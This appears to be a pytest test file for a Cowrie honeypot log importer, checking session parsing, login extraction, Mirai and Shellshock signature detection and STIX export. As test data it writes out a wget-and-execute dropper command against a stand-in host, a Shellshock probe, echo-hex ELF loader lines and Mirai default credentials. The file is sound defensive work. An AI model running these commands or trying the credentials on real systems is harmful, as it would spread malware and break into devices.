"""Tests for the Cowrie JSON-lines importer (teiten.capture.cowrie)."""

from __future__ import annotations

import gzip
import ipaddress
import json
import tempfile
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from teiten.app.engine import run_query
from teiten.app.ingest import ingest
from teiten.capture import cowrie
from teiten.capture.compressed import compression_of
from teiten.capture.cowrie import looks_like_cowrie, read_cowrie, sniff_cowrie, timestamp_ns
from teiten.config import Settings
from teiten.enrich.country import CountryEnricher
from teiten.enrich.network import NetworkSet
from teiten.enrich.sources import open_country_source
from teiten.errors import ConfigError, InputError
from teiten.pipeline.sessions import LOGINS_SCHEMA, SESSIONS_SCHEMA, SessionStage, session_tables

DATA = Path(__file__).resolve().parents[1] / "data"
LOG = DATA / "cowrie" / "cowrie.json"
MIRAI, SSH, V6, NO_CONNECT = "4f2b1c9e8a7d", "9c0d3e2f1a4b", "e1f2a3b4c5d6", "0a1b2c3d4e5f"


ENRICHER = CountryEnricher(open_country_source("iptocc"))


def tables(result: cowrie.CowrieResult, input_id: int = 0) -> tuple[pa.Table, pa.Table]:
    """The rows ingest stores for a log's sessions (classified by the pipeline's stage)."""
    return session_tables(result.sessions, ENRICHER, input_id)


def rows(result: cowrie.CowrieResult) -> list[dict[str, Any]]:
    return tables(result)[0].to_pylist()


def logins(result: cowrie.CowrieResult) -> list[dict[str, Any]]:
    return tables(result)[1].to_pylist()


def by_session(result: cowrie.CowrieResult) -> dict[str, dict[str, Any]]:
    return {r["honeypot"]["session"]: r for r in rows(result)}


def ip4(text: str) -> int:
    return int(ipaddress.IPv4Address(text))


def event(eventid: str, session: str, second: int, **fields: Any) -> str:
    when = f"2020-01-01T00:00:{second:02d}Z"
    return json.dumps({"eventid": eventid, **fields, "src_ip": "203.0.113.5",
                       "timestamp": when, "session": session})  # fmt: skip


def write(tmp_path: Path, lines: list[str], name: str = "log.json") -> Path:
    path = tmp_path / name
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def result() -> cowrie.CowrieResult:
    return read_cowrie(LOG)


def test_recognises_cowrie_logs() -> None:
    head = LOG.read_bytes()[:200]
    assert looks_like_cowrie(head)  # the first line is cut off: judged by its start
    assert looks_like_cowrie(b"\n\n" + LOG.read_bytes().split(b"\n")[0] + b"\n")
    assert not looks_like_cowrie(b'{"eventid": "kippo.session.connect"}\n')
    assert not looks_like_cowrie(b'{"timestamp": "2020-01-01"}\n{"eventid": "cowrie.x"}\n')
    assert not looks_like_cowrie(b"[1, 2]\n")
    assert not looks_like_cowrie((DATA / "eth_ipv4.pcap").read_bytes()[:4096])
    assert not looks_like_cowrie(b"")


def test_sniffs_plain_and_gzip_files(tmp_path: Path) -> None:
    gz = tmp_path / "cowrie.json.gz"
    gz.write_bytes(gzip.compress(LOG.read_bytes(), mtime=0))
    assert sniff_cowrie(LOG) and sniff_cowrie(gz)
    assert not sniff_cowrie(DATA / "eth_ipv4.pcap.gz")


def test_one_row_per_session(result: cowrie.CowrieResult) -> None:
    sessions, logins = tables(result)
    assert sessions.schema == SESSIONS_SCHEMA and logins.schema == LOGINS_SCHEMA
    assert set(by_session(result)) == {MIRAI, SSH, V6, NO_CONNECT}
    assert result.counts == {"no_connect": 1, "open_at_end": 1}
    for table in (sessions, logins):  # every required column is filled
        for f in table.schema:
            assert f.nullable or table.column(f.name).null_count == 0, f.name


def test_session_ids_name_the_input() -> None:
    got = tables(read_cowrie(LOG), input_id=7)[0]
    assert got.column("id").to_pylist() == ["s7-1", "s7-2", "s7-3", "s7-4"]


def test_mirai_telnet_session(result: cowrie.CowrieResult) -> None:
    row = by_session(result)[MIRAI]
    assert (row["app"], row["proto"], row["ip_version"]) == ("telnet", 6, 4)
    assert (row["src_ip4"], row["src_port"]) == (ip4("203.0.113.45"), 51234)
    assert (row["dst_ip4"], row["dst_port"]) == (ip4("192.0.2.10"), 23)
    assert row["ts_first"] == timestamp_ns("2017-11-27T03:14:15.926535Z") == 1511752455926535000
    assert row["ts_last"] == timestamp_ns("2017-11-27T03:14:29.6Z")
    assert row["signatures"] == ["sig.mirai-telnet-busybox-token"]
    assert row["kind"] == "bot"
    sha = "3b4c5d6e7f8091a2b3c4d5e6f708192a" * 2
    assert row["indicators"] == ["http://198.51.100.9/bins/mips", "198.51.100.9", "mips", sha]
    assert row["indicator_types"] == ["url", "ip", "filename", "sha256"]
    commands = row["client_bytes"].split(b"\n")
    assert commands[:5] == [b"enable", b"system", b"shell", b"sh", b"/bin/busybox ECCHI"]
    assert row["client_total"] == len(row["client_bytes"]) and not row["truncated"]
    assert row["server_bytes"] == b""
    honeypot = row["honeypot"]
    assert honeypot["downloads"][0]["shasum"].startswith("3b4c5d6e")
    assert honeypot["duration_s"] == 13.7 and honeypot["name"] == "cowrie"
    assert (honeypot["protocol"], honeypot["logins"], honeypot["sensor"]) == (
        "telnet", 2, "hp-tokyo-1")  # fmt: skip
    assert row["notes"] == [] and row["evidence_cut"] == 0
    assert row["requests"] is None and row["telnet"] is None


def test_logins_carry_success_mirai_flag_and_following_commands(
    result: cowrie.CowrieResult,
) -> None:
    mine = [r for r in logins(result) if r["src_ip4"] == ip4("203.0.113.45")]
    assert [(r["username"], r["password"], r["success"]) for r in mine] == [
        ("root", "root", 0), ("root", "xc3511", 1)]  # fmt: skip
    assert mine[0]["commands"] == []
    assert mine[1]["commands"][-2:] == [
        "/bin/busybox ECCHI",
        "cd /tmp; wget http://198.51.100.9/bins/mips; chmod 777 mips; ./mips telnet.mips",
    ]
    assert all(r["mirai_dict"] for r in mine)
    assert {r["ts"] for r in mine} == {timestamp_ns("2017-11-27T03:14:15.926535Z")}


def test_failed_login_only_ssh_session(result: cowrie.CowrieResult) -> None:
    row = by_session(result)[SSH]
    assert (row["app"], row["dst_port"], row["client_bytes"]) == ("ssh", 22, b"")
    assert row["signatures"] == [] and row["kind"] == "" and row["indicators"] == []
    assert row["honeypot"]["client_version"] == "SSH-2.0-Go"
    mine = [r for r in logins(result) if r["src_ip4"] == ip4("198.51.100.23")]
    assert [(r["username"], r["success"], r["mirai_dict"]) for r in mine] == [
        ("root", 0, False), ("admin", 0, True), ("ubnt", 0, True)]  # fmt: skip


def test_ipv6_session_open_at_end_with_failed_download(result: cowrie.CowrieResult) -> None:
    row = by_session(result)[V6]
    assert row["ip_version"] == 6 and row["src_ip4"] == 0
    assert row["src_ip6"] == ipaddress.IPv6Address("2001:db8:1::10").packed
    assert row["dst_ip6"] == ipaddress.IPv6Address("2001:db8:2::1").packed
    assert "http://loader.example.net/x.sh" in row["indicators"]
    assert row["notes"] == ["open_at_end"]
    assert row["honeypot"]["failed_downloads"] == ["http://loader.example.net/x.sh"]


def test_session_without_connect_is_kept(result: cowrie.CowrieResult) -> None:
    row = by_session(result)[NO_CONNECT]
    assert row["src_ip4"] == ip4("203.0.113.77") and row["dst_ip4"] == 0
    assert row["signatures"] == ["sig.mirai-telnet-busybox-token"]
    assert row["notes"] == ["no_connect"]


def test_bad_lines_are_counted_by_reason(result: cowrie.CowrieResult) -> None:
    assert result.stats.records == 31  # non-blank lines
    assert result.stats.bytes == LOG.stat().st_size
    assert result.stats.skipped == {
        "bad_json": 2, "not_an_object": 1, "unknown_event": 1, "unused_event": 1,
        "missing_field": 1, "bad_timestamp": 1,
    }  # fmt: skip


def test_gzip_log_gives_the_same_rows(tmp_path: Path, result: cowrie.CowrieResult) -> None:
    gz = tmp_path / "cowrie.json.gz"
    gz.write_bytes(gzip.compress(LOG.read_bytes(), mtime=0))
    again = read_cowrie(gz)
    assert again.sessions == result.sessions
    assert again.stats.skipped == result.stats.skipped


def test_small_reads_give_the_same_rows(
    monkeypatch: pytest.MonkeyPatch, result: cowrie.CowrieResult
) -> None:
    monkeypatch.setattr(cowrie, "_READ", 7)
    again = read_cowrie(LOG)
    assert again.sessions == result.sessions and again.stats == result.stats


@pytest.mark.parametrize("read", [7, 1 << 20])
def test_long_lines_are_skipped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, read: int) -> None:
    monkeypatch.setattr(cowrie, "MAX_LINE", 250)
    monkeypatch.setattr(cowrie, "_READ", read)
    good = event("cowrie.session.connect", "s1", 1, protocol="telnet", dst_port=23)
    long_one = event("cowrie.command.input", "s1", 2, input="x" * 300)
    path = tmp_path / "log.json"
    path.write_text(f"{long_one}\n{good}\n{long_one}", encoding="utf-8")
    got = read_cowrie(path)
    assert got.stats.records == 3 and got.stats.skipped == {"line_too_long": 2}
    assert len(got.sessions) == 1


def test_commands_are_capped(tmp_path: Path) -> None:
    lines = [event("cowrie.session.connect", "s1", 0, dst_port=22, protocol="ssh")]
    lines += [event("cowrie.command.input", "s1", 1, input="y" * 3000) for _ in range(40)]
    row = rows(read_cowrie(write(tmp_path, lines)))[0]
    assert len(row["client_bytes"]) == cowrie.CLIENT_CAP and row["truncated"]
    assert row["client_total"] == 40 * 3000 + 39


def test_reused_id_and_eviction(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cowrie, "MAX_OPEN", 2)
    lines = [event("cowrie.session.connect", sid, i) for i, sid in enumerate("aab")]
    lines.append(event("cowrie.session.connect", "c", 5))
    got = read_cowrie(write(tmp_path, lines))
    assert len(got.sessions) == 4
    assert got.counts == {"reused_id": 1, "evicted_open": 1, "open_at_end": 2}


def test_sensor_networks_leave_out_own_sessions(result: cowrie.CowrieResult) -> None:
    """The pipeline's session stage leaves out the sensor's own sessions, from any source."""
    stage = SessionStage(ENRICHER, nets=NetworkSet(["203.0.113.0/24", "2001:db8:ff::/48"]))
    sessions, logins = stage.tables(result.sessions)
    assert {r["honeypot"]["session"] for r in sessions.to_pylist()} == {SSH, V6}
    assert stage.left_out == {"from_sensor": 2} and stage.count == 2
    assert ip4("203.0.113.45") not in logins.column("src_ip4").to_pylist()
    with pytest.raises(ConfigError):
        NetworkSet(["not-a-network"])


def test_odd_field_values_are_tolerated(tmp_path: Path) -> None:
    lines = [event("cowrie.session.connect", "s1", 0, src_port="²", dst_port="2323",
                   dst_ip="::ffff:192.0.2.10"),
             event("cowrie.login.failed", "s1", 1, username=0, password=None),
             event("cowrie.command.input", "s1", 2, input="\ud800 /bin/busybox MIORI"),
             event("cowrie.session.closed", "s1", 3, duration="NaN")]  # fmt: skip
    got = read_cowrie(write(tmp_path, lines))
    row = rows(got)[0]
    assert (row["src_port"], row["dst_port"], row["app"]) == (0, 2323, "telnet")
    assert row["dst_ip4"] == ip4("192.0.2.10")
    assert row["client_bytes"] == b"\\ud800 /bin/busybox MIORI"
    assert row["honeypot"]["duration_s"] is None
    assert logins(got)[0]["username"] == "0"


def test_missing_file_raises_input_error(tmp_path: Path) -> None:
    with pytest.raises(InputError):
        read_cowrie(tmp_path / "nope.json")


@pytest.mark.parametrize(
    ("text", "ns"),
    [
        ("1970-01-01T00:00:00Z", 0),
        ("1970-01-01T00:00:01.000000001Z", 1_000_000_001),
        ("1970-01-01 09:00:00+09:00", 0),
        ("1970-01-01T00:00:00.5", 500_000_000),
        ("1970-01-01T00:00:00-0130", 5400 * 10**9),
        ("yesterday", None),
        ("2017-02-30T00:00:00Z", None),
        ("9999-01-01T00:00:00Z", None),
        (1509494401, None),
    ],
)
def test_timestamps(text: object, ns: int | None) -> None:
    assert timestamp_ns(text) == ns


_SCALAR = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30)
_JSON = st.recursive(_SCALAR, lambda c: st.lists(c, max_size=3) | st.dictionaries(
    st.text(max_size=8), c, max_size=3), max_leaves=8)  # fmt: skip
_EVENTS = st.fixed_dictionaries(
    {"eventid": st.sampled_from(sorted(cowrie._HANDLED)) | _JSON,
     "session": st.sampled_from(["a", "b"]) | _JSON,
     "timestamp": st.just("2020-01-01T00:00:00Z") | _JSON},
    optional={k: _JSON | st.text(max_size=40) for k in (
        "src_ip", "dst_ip", "src_port", "dst_port", "protocol", "username", "password", "input",
        "url", "shasum", "outfile", "version", "duration", "sensor")},
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(lines=st.lists(st.binary(max_size=80) | _EVENTS.map(json.dumps).map(str.encode),
                      max_size=12))  # fmt: skip
def test_arbitrary_lines_never_raise(lines: list[bytes]) -> None:
    data = b"\n".join(lines)
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "log.json"
        path.write_bytes(data)
        got = read_cowrie(path)
    if compression_of(data) is None:  # else read as a (broken) compressed file
        assert got.stats.records == sum(1 for part in data.split(b"\n") if part.strip())
    stream = ("truncated_compressed", "corrupt_compressed")  # the file's, not a line's
    lines = sum(n for reason, n in got.stats.skipped.items() if reason not in stream)
    assert lines <= got.stats.records
    assert tables(got)[0].schema == SESSIONS_SCHEMA  # classified and stored like any session


SHA = "a" * 64


def test_download_without_url_keeps_the_sha256(tmp_path: Path) -> None:
    """A file written by a redirection or uploaded: Cowrie logs no url, only its hash."""
    lines = [
        event("cowrie.session.connect", "s1", 0, dst_port=23, protocol="telnet"),
        event("cowrie.session.file_download", "s1", 1, shasum=SHA.upper(), outfile="dl/" + SHA),
        event("cowrie.session.file_download", "s1", 2, outfile="dl/nothing"),  # nothing to keep
        event("cowrie.session.closed", "s1", 3),
    ]
    got = read_cowrie(write(tmp_path, lines))
    (row,) = rows(got)
    assert row["indicators"] == [SHA] and row["indicator_types"] == ["sha256"]
    downloads = row["honeypot"]["downloads"]
    assert downloads == [{"url": "", "shasum": SHA.upper(), "outfile": "dl/" + SHA}]
    assert got.stats.skipped == {"missing_field": 1}


def test_download_with_a_bad_hash_gives_no_sha256_indicator(tmp_path: Path) -> None:
    lines = [
        event("cowrie.session.file_download", "s1", 1, url="http://198.51.100.2/a", shasum="xyz"),
        event("cowrie.session.closed", "s1", 3),
    ]
    (row,) = rows(read_cowrie(write(tmp_path, lines)))
    assert "sha256" not in row["indicator_types"] and "http://198.51.100.2/a" in row["indicators"]


def test_the_logs_sensor_names_the_sensor(tmp_path: Path, result: cowrie.CowrieResult) -> None:
    assert result.sensor == "hp-tokyo-1" and result.sensors == {"hp-tokyo-1": 4}
    one = [event("cowrie.session.closed", "s1", 1, sensor="hp-a")]
    two = [*one, event("cowrie.session.closed", "s2", 2, sensor="hp-b")]
    bad = [*one, event("cowrie.session.closed", "s3", 2, sensor="../etc")]
    none = [event("cowrie.session.closed", "s1", 1)]
    assert read_cowrie(write(tmp_path, one, "1.json")).sensor == "hp-a"
    assert read_cowrie(write(tmp_path, two, "2.json")).sensor is None  # merged logs: not guessed
    got = read_cowrie(write(tmp_path, bad, "3.json"))
    assert got.sensor == "hp-a" and got.counts == {"no_connect": 2, "bad_sensor_name": 1}
    assert read_cowrie(write(tmp_path, none, "4.json")).sensor is None


@pytest.mark.parametrize(
    ("command", "signature"),
    [
        (
            "/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x02\\x01' > .d",
            "sig.mirai-echo-hex-elf-loader",
        ),
        ('echo -en "\\x7F\\x45\\x4C\\x46" >> upnp', "sig.mirai-echo-hex-elf-loader"),
        ("env x='() { :;}; echo vulnerable' bash -c id", "sig.shellshock-command-cve-2014-6271"),
        ("echo -ne '\\x41\\x42' > a", None),
        ("f() { id; }; f", None),
    ],
)
def test_loader_and_shellshock_commands(
    tmp_path: Path, command: str, signature: str | None
) -> None:
    lines = [
        event("cowrie.session.connect", "s1", 0, dst_port=23, protocol="telnet"),
        event("cowrie.command.input", "s1", 1, input=command),
        event("cowrie.session.closed", "s1", 2),
    ]
    (row,) = rows(read_cowrie(write(tmp_path, lines)))
    assert row["signatures"] == ([signature] if signature else [])


REAL_LOG = (
    Path(__file__).resolve().parents[3] / "shared/corpus/honeypot/cowrie-ranguli-2019/cowrie.json"
)


@pytest.mark.skipif(not REAL_LOG.is_file(), reason="the shared corpus is not here")
def test_real_cowrie_log() -> None:
    got = read_cowrie(REAL_LOG)
    assert got.sensor == "ubuntu" and got.stats.records == 2000
    sessions, logins = tables(got)
    assert sessions.num_rows > 300 and logins.num_rows >= 280
    assert sum(got.stats.skipped.values()) < got.stats.records
    assert set(got.stats.skipped) <= {"unused_event"}


def test_ingest_stores_the_log_under_its_sensor(settings: Settings) -> None:
    assert settings.sensor == "test-sensor"
    assert ingest([LOG], settings).inputs[0].status == "ingested"
    for table in ("sessions", "logins"):
        got = run_query(settings, f"SELECT DISTINCT sensor FROM {table}").to_pylist()
        assert got == [{"sensor": "hp-tokyo-1"}]


def test_echo_loader_dropper_hash_reaches_the_stix_export(
    tmp_path: Path, settings: Settings
) -> None:
    """An echo-written dropper (Cowrie logs no url for it): its SHA-256 is exported."""
    from teiten.app.payloads import stix_export

    loader = "/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > .s"
    lines = [
        event("cowrie.session.connect", "s1", 0, dst_port=23, protocol="telnet"),
        event("cowrie.command.input", "s1", 1, input=loader),
        event("cowrie.session.file_download", "s1", 2, shasum=SHA, outfile="dl/" + SHA),
        event("cowrie.session.closed", "s1", 3),
    ]
    s = settings.replace(sensor_networks=["192.0.2.0/24"])  # the log's client is 203.0.113.5
    assert ingest([write(tmp_path, lines)], s).inputs[0].status == "ingested"
    bundle = json.loads(stix_export(s))
    patterns = [o["pattern"] for o in bundle["objects"] if o["type"] == "indicator"]
    assert f"[file:hashes.'SHA-256' = '{SHA}']" in patterns
